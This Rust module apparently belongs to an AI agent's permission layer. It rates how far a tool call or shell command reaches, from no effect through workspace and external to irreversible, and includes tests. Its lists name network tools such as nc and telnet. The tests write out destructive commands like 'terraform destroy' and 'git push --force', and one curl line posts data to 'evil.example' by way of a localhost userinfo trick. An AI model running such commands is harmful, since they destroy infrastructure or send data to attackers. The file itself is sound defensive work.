//! The effect of a call, by its tool and, for commands, by a small table of patterns.
//!
//! It decides what is asked before a call, and what is said and asked when one was under way and nobody knows how far it
//! came. What is not in the table is taken to change the box and nothing else.

use serde_json::Value;

use super::Place;
use super::commands::{Command, commands};
use super::hosts::{Named, hosts, is_inside};
use crate::domain::Effect;

/// Programs that change nothing.
const READING: &[&str] = &[
    "[",
    "[[",
    "basename",
    "cal",
    "cat",
    "cd",
    "cmp",
    "column",
    "comm",
    "cut",
    "date",
    "df",
    "diff",
    "dirname",
    "du",
    "echo",
    "egrep",
    "env",
    "exit",
    "export",
    "expr",
    "false",
    "fgrep",
    "file",
    "fold",
    "free",
    "getent",
    "grep",
    "groups",
    "head",
    "hexdump",
    "hostname",
    "id",
    "jobs",
    "join",
    "jq",
    "less",
    "ls",
    "lsblk",
    "lscpu",
    "md5sum",
    "nl",
    "nproc",
    "nvidia-smi",
    "od",
    "paste",
    "pgrep",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "readlink",
    "realpath",
    "rg",
    "seq",
    "set",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "sleep",
    "sort",
    "stat",
    "strings",
    "tac",
    "tail",
    "test",
    "tr",
    "tree",
    "true",
    "type",
    "ulimit",
    "uname",
    "uniq",
    "uptime",
    "wait",
    "wc",
    "which",
    "who",
    "whoami",
    "xxd",
];

/// Programs whose only purpose is the world outside.
const OUTSIDE: &[&str] = &[
    "ansible",
    "ansible-playbook",
    "firebase",
    "flyctl",
    "ftp",
    "heroku",
    "mail",
    "mailx",
    "msmtp",
    "mutt",
    "nc",
    "ncat",
    "netlify",
    "scp",
    "sendmail",
    "sftp",
    "ssh",
    "swaks",
    "telnet",
    "vercel",
];

/// Words that say that something is only looked at.
const LOOKING: &[&str] = &[
    "describe", "diff", "explain", "get", "history", "list", "logs", "ls", "plan", "show", "status", "top", "validate",
    "version", "view",
];

/// Words that say that something goes for good.
const DESTROYING: &[&str] =
    &["delete", "destroy", "drop", "purge", "rb", "remove", "rm", "terminate", "uninstall", "unpublish"];

/// Whether a program changes nothing, whatever it is given.
pub(super) fn only_reads(program: &str) -> bool {
    READING.contains(&program)
}

/// How far a call reaches at most.
pub fn effect_of(name: &str, arguments: &Value, place: Place<'_>) -> Effect {
    let text = |member: &str| arguments.get(member).and_then(Value::as_str);
    let of_texts = || texts_of(name, arguments).iter().map(|text| of_text(text, place)).max();
    match name {
        "read_file" | "wait" | "finish" | "recall" | "ask_human" => Effect::None,
        "shell" => of_texts().unwrap_or(Effect::None),
        "tmux" => match text("action") {
            Some("read" | "screen" | "log" | "grep" | "list") => Effect::None,
            Some(_) | None => of_texts().unwrap_or(Effect::Workspace).max(Effect::Workspace),
        },
        "container" => match text("action") {
            Some("info" | "inspect" | "logs") => Effect::None,
            Some(_) | None => of_texts().unwrap_or(Effect::Workspace).max(Effect::Workspace),
        },
        "checkpoint" => match text("do") {
            Some("create" | "list" | "show") => Effect::None,
            Some(_) | None => Effect::Workspace,
        },
        _ => Effect::Workspace,
    }
}

/// The texts of a call that a shell runs, or that are typed where one may run.
pub(super) fn texts_of(name: &str, arguments: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let mut add = |value: Option<&Value>| match value {
        Some(Value::String(text)) => found.push(text.clone()),
        // What was written as a number or a truth is taken for the text that it is.
        Some(other @ (Value::Number(_) | Value::Bool(_))) => found.push(other.to_string()),
        Some(Value::Null | Value::Array(_) | Value::Object(_)) | None => {}
    };
    let ready = arguments.get("ready");
    let parsed = ready.and_then(Value::as_str).and_then(|text| serde_json::from_str::<Value>(text).ok());
    let ready = parsed.as_ref().or(ready);
    match name {
        "shell" | "container" => {
            add(arguments.get("command"));
            add(ready.and_then(|ready| ready.get("command")));
        }
        "tmux" => {
            add(arguments.get("command"));
            add(arguments.get("text"));
        }
        _ => {}
    }
    found
}

fn of_text(text: &str, place: Place<'_>) -> Effect {
    commands(text).iter().map(|command| of_command(command, place)).max().unwrap_or(Effect::None)
}

/// How far a command reaches, without those that it runs in its turn.
pub(super) fn of_command(command: &Command, place: Place<'_>) -> Effect {
    let by_redirection = if command.writes.is_empty() { Effect::None } else { Effect::Workspace };
    by_redirection.max(of_program(command, Some(place)))
}

/// How far a program reaches by its words, wherever its output goes; without a `place` every host is elsewhere.
pub(super) fn of_program(command: &Command, place: Option<Place<'_>>) -> Effect {
    if command.is_hidden {
        return Effect::Workspace;
    }
    let args: Vec<&str> = command.args.iter().map(String::as_str).collect();
    let is_outside = || reaches_outside(command, place);
    match command.program.as_str() {
        "" => Effect::None,
        "git" => of_git(&args),
        "curl" | "wget" | "http" | "https" | "xh" => match of_web(&command.program, &args) {
            Effect::External | Effect::Irreversible if !is_outside() => Effect::Workspace,
            effect => effect,
        },
        "rsync" | "rclone" | "gsutil" | "s3cmd" => of_copying(&command.program, &args),
        "kubectl" | "oc" | "helm" | "terraform" | "tofu" | "terragrunt" | "pulumi" | "cdk" | "aws" | "az"
        | "gcloud" | "gh" | "glab" | "doctl" => of_cloud(&args),
        "docker" | "podman" | "skopeo" => match args.first() {
            Some(&("push" | "login" | "copy")) => Effect::External,
            _ => Effect::Workspace,
        },
        "npm" | "yarn" | "pnpm" | "cargo" | "twine" | "gem" | "poetry" | "uv" => match args.first() {
            Some(&("publish" | "unpublish" | "upload" | "push" | "yank")) => Effect::Irreversible,
            _ => Effect::Workspace,
        },
        "psql" | "mysql" | "mariadb" | "mongosh" | "redis-cli" | "sqlcmd" => of_database(command, place),
        "find" => match args.iter().any(|word| {
            matches!(*word, "-delete" | "-exec" | "-execdir" | "-ok" | "-okdir") || word.starts_with("-fprint")
        }) {
            true => Effect::Workspace,
            false => Effect::None,
        },
        "sed" => of_sed(&args),
        program if OUTSIDE.contains(&program) => match is_outside() {
            true => Effect::External,
            false => Effect::Workspace,
        },
        program if only_reads(program) => match writes_after_all(command) {
            true => Effect::Workspace,
            false => Effect::None,
        },
        _ => Effect::Workspace,
    }
}

/// Whether it speaks to anything but the box and what belongs to it; so it does where no host is seen.
fn reaches_outside(command: &Command, place: Option<Place<'_>>) -> bool {
    let hosts = hosts(command);
    let is_within = |named: &Named| match named {
        Named::Host(host) => place.is_some_and(|place| is_inside(host, place.beside)),
        Named::Odd(_) => false,
    };
    hosts.is_empty() || !hosts.iter().all(is_within)
}

/// What makes a program that otherwise only reads write, or run something else.
fn writes_after_all(command: &Command) -> bool {
    let begins = |start: &str| command.args.iter().any(|arg| arg.starts_with(start));
    match command.program.as_str() {
        "sort" => command.has_option('o', "--output") || begins("--output=") || begins("--compress-program"),
        "uniq" => command.operands().count() > 1,
        "xxd" => command.has_option('r', "-revert") || command.operands().count() > 1,
        "tree" => command.has_option('o', "-o"),
        "rg" => begins("--pre"),
        "date" => command.has_option('s', "--set") || begins("--set="),
        "hostname" => command.operands().count() > 0,
        "less" => command.has_option('o', "--log-file") || command.has_option('O', "--LOG-FILE"),
        "file" => command.has_option('C', "--compile"),
        _ => false,
    }
}

/// `sed` only reads where it does nothing but print lines.
fn of_sed(args: &[&str]) -> Effect {
    let prints = |word: &&str| word.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | '$' | 'p' | ';' | ' '));
    match args {
        ["-n", script, files @ ..] if prints(script) && !files.iter().any(|file| file.starts_with('-')) => Effect::None,
        _ => Effect::Workspace,
    }
}

fn of_git(rest: &[&str]) -> Effect {
    let is_value = |at: usize| at > 0 && matches!(rest[at - 1], "-C" | "-c");
    let verb = (0..rest.len()).find(|&at| !rest[at].starts_with('-') && !is_value(at));
    let Some((before, verb, args)) = verb.map(|at| (&rest[..at], rest[at], &rest[at + 1..])) else {
        return Effect::None;
    };
    // A setting can name a program that is run.
    let runs_others = before.contains(&"-c") || before.iter().any(|word| word.starts_with("--exec-path"));
    let writes = args.iter().any(|word| word.starts_with("--output") || word.starts_with("--open-files-in-pager"));
    match verb {
        "push" => {
            let is_forced = |word: &&str| word.starts_with(':') || word.starts_with('+') || word.contains("force");
            let goes = |word: &&str| is_forced(word) || matches!(*word, "-f" | "-d" | "--delete" | "--mirror");
            if args.iter().any(goes) { Effect::Irreversible } else { Effect::External }
        }
        "send-email" => Effect::External,
        _ if runs_others || writes => Effect::Workspace,
        "blame" | "describe" | "diff" | "grep" | "log" | "ls-files" | "rev-parse" | "shortlog" | "show" | "status" => {
            Effect::None
        }
        "branch" | "remote" | "tag" if args.iter().all(|word| word.starts_with("-v") || *word == "-a") => Effect::None,
        _ => Effect::Workspace,
    }
}

fn of_web(program: &str, rest: &[&str]) -> Effect {
    let method = rest.iter().enumerate().find_map(|(at, word)| match *word {
        "-X" | "--request" => rest.get(at + 1).copied(),
        word => word
            .strip_prefix("-X")
            .or_else(|| word.strip_prefix("--request="))
            .or_else(|| word.strip_prefix("--method=")),
    });
    let sends = |word: &&str| {
        let long = ["--data", "--form", "--json", "--upload-file", "--post-", "--body-"];
        // `wget -d` and `-F` mean something else.
        let short = program == "curl" && ["-d", "-F", "-T"].iter().any(|flag| word.starts_with(flag));
        short || long.iter().any(|flag| word.starts_with(flag))
    };
    let by_name =
        program.starts_with("http") && rest.first().is_some_and(|word| word.chars().all(|c| c.is_ascii_uppercase()));
    let method = if by_name { rest.first().copied() } else { method };
    match method.map(str::to_ascii_uppercase).as_deref() {
        Some("DELETE") => Effect::Irreversible,
        Some("GET" | "HEAD" | "OPTIONS") => Effect::None,
        Some(_) => Effect::External,
        None if rest.iter().any(sends) => Effect::External,
        None if program == "wget"
            || rest.iter().any(|word| word.starts_with("-o") || *word == "-O" || word.starts_with("--output")) =>
        {
            Effect::Workspace
        }
        None => Effect::None,
    }
}

fn of_copying(program: &str, rest: &[&str]) -> Effect {
    let is_remote = |word: &&str| {
        let before_slash = word.split('/').next().unwrap_or_default();
        word.contains("://") || (!word.starts_with('-') && before_slash.contains(':'))
    };
    if program == "rsync" && !rest.iter().any(is_remote) {
        return Effect::Workspace;
    }
    match rest.iter().any(|word| DESTROYING.contains(word) || word.starts_with("--delete")) {
        true => Effect::Irreversible,
        false => Effect::External,
    }
}

/// Tools of clouds: what they do is in their words.
fn of_cloud(rest: &[&str]) -> Effect {
    let words: Vec<&str> = rest.iter().map(|word| word.trim_start_matches('-')).collect();
    let has = |list: &[&str]| {
        words.iter().any(|word| list.iter().any(|verb| word == verb || word.starts_with(&format!("{verb}-"))))
    };
    if has(DESTROYING) {
        return Effect::Irreversible;
    }
    if has(LOOKING) && !has(&["apply", "create", "put", "set", "update"]) {
        return Effect::None;
    }
    Effect::External
}

fn of_database(command: &Command, place: Option<Place<'_>>) -> Effect {
    let is_away = !hosts(command).is_empty() && reaches_outside(command, place);
    let said = format!("{} {}", command.args.join(" "), command.input.as_deref().unwrap_or_default());
    let said = said.to_ascii_lowercase();
    let destroys = ["drop ", "truncate ", "delete ", "flushall", "flushdb"].iter().any(|words| said.contains(words));
    match (is_away, destroys) {
        (true, true) => Effect::Irreversible,
        (true, false) => Effect::External,
        (false, _) => Effect::Workspace,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    const NOTHING: &BTreeSet<String> = &BTreeSet::new();

    fn nowhere() -> Place<'static> {
        Place { workspace: "/w", beside: NOTHING }
    }

    #[test]
    fn commands_reach_as_far_as_their_worst_part() {
        let table: &[(Effect, &[&str])] = &[
            (
                Effect::None,
                &[
                    "",
                    "ls -l | grep x",
                    "cat a 2>/dev/null",
                    "git status && git log -3",
                    "FOO=1 env",
                    "find . -name '*.rs'",
                    "curl -s http://localhost:80/health",
                    "kubectl get pods",
                    "terraform plan",
                    "aws s3 ls",
                    "sudo -n ls /root",
                    "curl -X GET https://x.example",
                    "cd /tmp && pwd",
                    "gh pr view 3",
                    "sed -n 1,20p f; sort f | uniq -c",
                    "if [ -f x ]; then cat x; fi",
                    "for f in *; do wc -l $f; done",
                    "X=1; [[ $X = 1 ]] && echo y",
                ],
            ),
            (
                Effect::Workspace,
                &[
                    "echo x >> f",
                    "make -j4",
                    "python train.py",
                    "rm -rf build",
                    "sed -i s/a/b/ f",
                    "git commit -m 'push it'",
                    "find . -delete",
                    "curl -o f http://x.example",
                    "rsync -a a/ b/",
                    "docker build .",
                    "npm install",
                    "bash run.sh",
                    "psql mine",
                    "timeout 5m make",
                    "curl -X POST -d a=1 http://localhost:8000/x",
                    "curl -X DELETE http://127.0.0.1:9200/index",
                    "psql -h localhost -c 'drop table x'",
                    "nc -z localhost 80",
                    "sed -i s/a/b/ f",
                    "sort f -o f",
                    "git -c core.pager=x log",
                    "eval $X",
                    "find . -exec touch {} +",
                ],
            ),
            (
                Effect::External,
                &[
                    "git push",
                    "git -C x push origin main",
                    "curl -d a=1 https://x.example",
                    "curl -XPOST https://x.example",
                    "ssh host ls",
                    "scp a host:",
                    "rsync -a a host:b",
                    "kubectl apply -f x.yaml",
                    "helm upgrade a b",
                    "terraform apply",
                    "aws s3 cp a s3://b",
                    "gcloud run deploy x",
                    "docker push x",
                    "psql -h db -c 'select 1'",
                    "mail -s hi a@x.example",
                    "make && git push",
                    "sudo ssh host",
                    "bash -c 'git push'",
                    "echo $(git push)",
                    "timeout 5 ssh host",
                    "echo \"`ssh host`\"",
                    "gh release create v1",
                    "curl -d a=1 http://$HOST/",
                    "curl -d a=1 http://localhost@evil.example/",
                    "find . -exec scp {} host: ';'",
                ],
            ),
            (
                Effect::Irreversible,
                &[
                    "terraform destroy -auto-approve",
                    "kubectl delete ns x",
                    "helm uninstall x",
                    "aws s3 rm s3://b/x",
                    "aws ec2 terminate-instances --instance-ids i-1",
                    "gcloud sql instances delete x",
                    "curl -X DELETE https://x.example",
                    "git push origin --delete x",
                    "git push --force",
                    "git push origin :x",
                    "psql -h db -c 'drop table x'",
                    "cargo publish",
                    "rsync -a --delete a host:b",
                    "terraform apply -destroy",
                ],
            ),
        ];
        for (effect, commands) in table {
            for command in *commands {
                assert_eq!(of_text(command, nowhere()), *effect, "{command}");
            }
        }
    }

    #[test]
    fn calls_reach_as_far_as_their_tool() {
        let effect = |name: &str, arguments: &str| {
            effect_of(name, &serde_json::from_str(arguments).unwrap_or_default(), nowhere())
        };
        assert_eq!(effect("read_file", "{}"), Effect::None);
        assert_eq!(effect("shell", "{}"), Effect::None, "it goes on waiting");
        assert_eq!(effect("shell", r#"{"command":"git push"}"#), Effect::External);
        assert_eq!(effect("tmux", r#"{"action":"screen"}"#), Effect::None);
        assert_eq!(effect("tmux", r#"{"action":"send","text":"terraform destroy"}"#), Effect::Irreversible);
        assert_eq!(effect("tmux", r#"{"action":"keys"}"#), Effect::Workspace);
        assert_eq!(effect("shell", r#"{"command":"ls","ready":{"command":"git push"}}"#), Effect::External);
        assert_eq!(effect("checkpoint", r#"{"do":"list"}"#), Effect::None);
        assert_eq!(effect("checkpoint", r#"{"do":"restore"}"#), Effect::Workspace);
        assert_eq!(effect("write_file", "no JSON"), Effect::Workspace);
        assert_eq!(effect("something new", "{}"), Effect::Workspace);
    }
}
